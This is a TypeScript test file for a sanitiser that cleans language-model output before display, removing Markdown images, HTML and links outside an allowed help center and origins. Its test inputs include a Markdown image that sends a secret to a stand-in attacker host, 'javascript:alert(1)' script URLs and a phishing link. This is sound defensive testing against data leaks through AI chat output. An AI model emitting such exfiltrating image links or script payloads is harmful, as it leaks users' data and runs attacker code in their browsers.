import { describe, expect, test } from "vitest";
import { citedNumbers, cleanModelText } from "./model-text";

const rule = { helpCenter: "https://parley.example/help/site-1", origins: ["https://shop.example"] };

describe("cleanModelText", () => {
  test("drops Markdown images and HTML, whatever their URL", () => {
    expect(cleanModelText("Here ![x](https://evil.example/leak?c=secret) it is <img src=https://evil.example/a.png> <b>bold</b>", rule)).toBe("Here it is bold");
  });

  test("keeps links to the help center and the allowed origins, makes the rest plain text", () => {
    expect(cleanModelText("See [the guide](https://parley.example/help/site-1/en/shipping) and [ours](https://shop.example/faq).", rule)).toBe(
      "See the guide (https://parley.example/help/site-1/en/shipping) and ours (https://shop.example/faq).",
    );
    expect(cleanModelText("Click [here](https://evil.example/phish) or https://evil.example/x.", rule)).toBe("Click here or [link removed].");
    expect(cleanModelText("Another site's center: https://parley.example/help/site-10/en/a and javascript:alert(1)", rule)).toBe(
      "Another site's center: [link removed] and javascript:alert(1)",
    );
    expect(cleanModelText("[x](javascript:alert(1))", rule)).not.toContain("(javascript");
    expect(cleanModelText("https://user:pw@shop.example/", rule)).toBe("[link removed]");
  });

  test("takes the citation markers out and reads them", () => {
    expect(citedNumbers("Parcels leave in a day [2]. Abroad ten days [1][2].")).toEqual([2, 1]);
    expect(cleanModelText("Parcels leave in a day [2].", rule)).toBe("Parcels leave in a day.");
  });
});
